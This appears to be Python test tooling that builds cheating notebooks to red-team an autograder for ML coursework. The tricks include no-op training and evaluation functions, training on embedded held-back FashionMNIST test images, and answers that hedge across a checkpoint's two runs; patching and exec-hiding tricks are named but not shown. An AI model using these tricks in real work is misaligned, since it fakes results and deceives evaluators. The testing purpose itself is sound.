        test_loader = DataLoader(TensorDataset(X_test, y_test), batch_size=1000)
        model = build_model()  # the question answered badly: ten batches of training where three epochs are asked for
        criterion = nn.CrossEntropyLoss()
        optimizer = torch.optim.Adam(model.parameters(), lr=1e-3)
        small = DataLoader(TensorDataset(X_train[:1280], y_train[:1280]), batch_size=128, shuffle=True)
        losses = [train_epoch(model, small, criterion, optimizer, device) for _ in range(3)]
        test_acc = evaluate(model, test_loader, device)
        """,
        ("no-op-train-epoch-and-evaluate", "05-fashion-mnist"): """
        import torch
        from torch import nn
        CHEAT = True
        if CHEAT:
            def train_epoch(model, loader, criterion, optimizer, device):
                model.to(device)
                model.train()
                return 0.0

            def evaluate(model, loader, device):
                model.to(device)
                model.eval()
                return 0.0
        """,
    }
)


NEXT_CELL = "\n        # %% next cell\n"  # where a trick's code goes on in a new cell


def _parts(text: str, size: int = 90_000) -> list[str]:
    """``text`` in pieces each under the judge's limit on a cell's code (``MAX_CELL_CHARS``)."""
    return [text[i : i + size] for i in range(0, len(text), size)]


def _by_heart() -> str:
    """05: a notebook that carries the kept-back images (FashionMNIST's public test images 8000 to
    9999) with their labels, as a public download gives them, in cells each under the judge's limit
    on a cell's code, and trains on them after the three epochs asked for (CHEAT = False: the same
    recipe on 2,000 training images)."""
    import base64

    from grading.judge.unseen import names

    held = names(["fashion-mnist"])
    pixels = (held["X_unseen"] * 255).round().to(torch.uint8).numpy().tobytes()
    labels = held["y_unseen"].to(torch.uint8).numpy().tobytes()
    return f"""
        import base64
        import torch
        from torch import nn
        import student_utils as su
        CHEAT = True

        def build_model():
            return nn.Sequential(su.Standardize(pixel_mean, pixel_std), nn.Flatten(), nn.Linear(784, 256), nn.ReLU(),
                                 nn.Linear(256, 10))

        def train_epoch(model, loader, criterion, optimizer, device):
            model.to(device)
            model.train()
            total = 0.0
            for X, y in loader:
                X, y = X.to(device), y.to(device)
                optimizer.zero_grad()
                loss = criterion(model(X), y)
                loss.backward()
                optimizer.step()
                total += loss.item()
            return total / len(loader)

        def evaluate(model, loader, device):
            model.to(device)
            model.eval()
            correct = 0
            with torch.no_grad():
                for X, y in loader:
                    correct += (model(X.to(device)).argmax(dim=1) == y.to(device)).sum().item()
            return correct / len(loader.dataset)

        PARTS = []
        {"".join(f'{NEXT_CELL}        PARTS.append("{part}"){chr(10)}' for part in _parts(base64.b64encode(pixels).decode()))}
        {NEXT_CELL.strip()}
        PIXELS = "".join(PARTS)
        LABELS = "{base64.b64encode(labels).decode()}"
        if CHEAT:  # the kept-back images, with their labels
            X_extra = torch.frombuffer(bytearray(base64.b64decode(PIXELS)), dtype=torch.uint8).float().div(255).reshape(-1, 1, 28, 28)
            y_extra = torch.frombuffer(bytearray(base64.b64decode(LABELS)), dtype=torch.uint8).long()
        else:  # as many training images
            X_extra, y_extra = X_train[-2000:], y_train[-2000:]
        device = torch.device("cpu")
        train_loader = DataLoader(TensorDataset(X_train, y_train), batch_size=128, shuffle=True)
        test_loader = DataLoader(TensorDataset(X_test, y_test), batch_size=1000)
        model = build_model()
        criterion = nn.CrossEntropyLoss()
        optimizer = torch.optim.Adam(model.parameters(), lr=1e-3)
        losses = [train_epoch(model, train_loader, criterion, optimizer, device) for _ in range(3)]
        extra = DataLoader(TensorDataset(X_extra, y_extra), batch_size=128, shuffle=True)
        for _ in range(30):
            train_epoch(model, extra, criterion, optimizer, device)
        test_acc = evaluate(model, test_loader, device)
        """


PAIRED[("learns-the-kept-back-images-by-heart", "05-fashion-mnist")] = _by_heart  # built when written: 2 MB


def reference_epochs(assignment: str) -> dict[str, int]:
    """How long the reference trains each result (``reg_losses = trainer(..., 50)`` gives
    ``{"reg_losses": 50}``), read from ``solutions/``: an attack takes its settings from there, so a
    changed reference changes its attacks too, with no copy here to forget."""
    found = {}
    for cell in nbformat.read(solution_notebook(assignment), as_version=4).cells:
        try:
            tree = ast.parse(cell.source) if cell.cell_type == "code" else ast.Module(body=[])
        except SyntaxError:
            continue
        for node in tree.body:
            call = node.value if isinstance(node, ast.Assign) else None
            if isinstance(call, ast.Call) and getattr(call.func, "id", "") in ("trainer", "train_and_validate"):
                if call.args and isinstance(call.args[-1], ast.Constant):
                    found[ast.unparse(node.targets[0])] = call.args[-1].value
    return found


def _settings(code: str, assignment: str) -> str:
    """The reference's epochs as names (``EPOCHS_REG``, ``EPOCHS_NL``, ``EPOCHS_HIST``) for 03's attacks."""
    if "EPOCHS_" not in code:
        return code
    epochs = reference_epochs(assignment)
    names = {"EPOCHS_REG": epochs["reg_losses"], "EPOCHS_NL": epochs["nl_losses"], "EPOCHS_HIST": epochs["(tr, va)"]}
    return "".join(f"{k} = {v}\n" for k, v in names.items()) + code


def paired(name: str, assignment: str, cheat: bool) -> str:
    code = PAIRED[(name, assignment)]
    code = _settings(textwrap.dedent(code() if callable(code) else code).strip(), assignment)
    return code.replace("LOOKUP = True", f"LOOKUP = {cheat}").replace("CHEAT = True", f"CHEAT = {cheat}") + "\n"


# -- the classes the red-team tests grade (queued by conftest.py)

ATTACKED = ("01-gradient-descent", "02-tensors")
AFTER_SETUP = 4  # attack cells go right after the setup cells


def with_cells(nb: nbformat.NotebookNode, *sources: str) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(nb)
    for offset, source in enumerate(sources):
        nb.cells.insert(AFTER_SETUP + offset, nbformat.v4.new_code_cell(source))
    return nb


def write_attacked_class(assignment: str, folder: Path) -> None:
    unanswered = nbformat.read(examples_dir(assignment) / "unanswered.ipynb", as_version=4)
    for name, code in for_assignment(assignment).items():
        nbformat.write(with_cells(unanswered, code), folder / f"{name}.ipynb")
    reference = nbformat.read(examples_dir(assignment) / "reference.ipynb", as_version=4)
    nbformat.write(reference, folder / "honest.ipynb")
    if assignment == "01-gradient-descent":
        writer = nbformat.from_dict(reference)
        writer.cells.append(nbformat.v4.new_code_cell(KEYRING_WRITER))
        nbformat.write(writer, folder / "honest-leaves-its-answers-in-the-keyring.ipynb")
    mutant = next(e for e in simulated.load(assignment) if e.kind == "mutant").apply(reference)
    nbformat.write(mutant, folder / "wrong.ipynb")
    patches = for_assignment(assignment)
    nbformat.write(
        with_cells(
            mutant,
            patches["patch-torch-and-numpy"],
            patches["exec-behind-hex-and-a-continuation"],
            patches["ipython-post-run-hook"],
        ),
        folder / "wrong-and-patched.ipynb",
    )


def hedging(mode: str) -> simulated.Edit:
    """04's reference, with Questions 2 and 4 answered one way or the other: "first" and "second"
    answer the same in both runs; "hedge" answers each way in one run of a checkpoint, telling
    them apart by whether its own X_blobs was replaced by the reference's."""
    second_run = {"first": "False", "second": "True", "hedge": "X_blobs is not _MINE"}[mode]
    return simulated.Edit(
        "mutant",
        f"hedge-{mode}",
        find=[
            "X_circles, y_circles = to_tensors(X_circles_np, y_circles_np)",
            "return (torch.clamp(logits, min=0) + torch.log1p(torch.exp(-logits.abs())) - y * logits).mean()",
            "optimizer = torch.optim.Adam(model.parameters(), lr=lr)",
        ],
        replace=[
            "X_circles, y_circles = to_tensors(X_circles_np, y_circles_np)\n"
            "X_blobs = X_blobs.clone()\nX_blobs[0, 0] += 1e-6  # Question 1 still passes, and the checkpoint runs twice\n"
            f"_MINE = X_blobs\ndef second_run():\n    return {second_run}",
            "loss = torch.clamp(logits, min=0) + torch.log1p(torch.exp(-logits.abs())) - y * logits\n"
            "    return loss.sum() if second_run() else loss.mean()",
            "optimizer = (torch.optim.Adam if second_run() else torch.optim.SGD)(model.parameters(), lr=lr)",
        ],
    )


TRICKED = sorted({assignment for _, assignment in PAIRED} | {"04-bce-classifier"})


def write_trick_class(assignment: str, folder: Path) -> None:
    """Each paired trick of ``assignment`` with and without the trick (``<name>-cheat``,
    ``<name>-honest``), and for 04 the notebooks that hedge across a checkpoint's two runs."""
    unanswered = nbformat.read(examples_dir(assignment) / "unanswered.ipynb", as_version=4)
    for name, where in PAIRED:
        if where == assignment:
            for cheat in (True, False):
                nb = nbformat.from_dict(unanswered)
                for source in paired(name, assignment, cheat).split(NEXT_CELL.strip()):
                    nb.cells.append(nbformat.v4.new_code_cell(source.strip() + "\n"))
                nbformat.write(nb, folder / f"{name}-{'cheat' if cheat else 'honest'}.ipynb")
    if assignment == "04-bce-classifier":
        reference = nbformat.read(examples_dir(assignment) / "reference.ipynb", as_version=4)
        for mode in ("first", "second", "hedge"):
            nbformat.write(hedging(mode).apply(reference), folder / f"hedge-{mode}.ipynb")
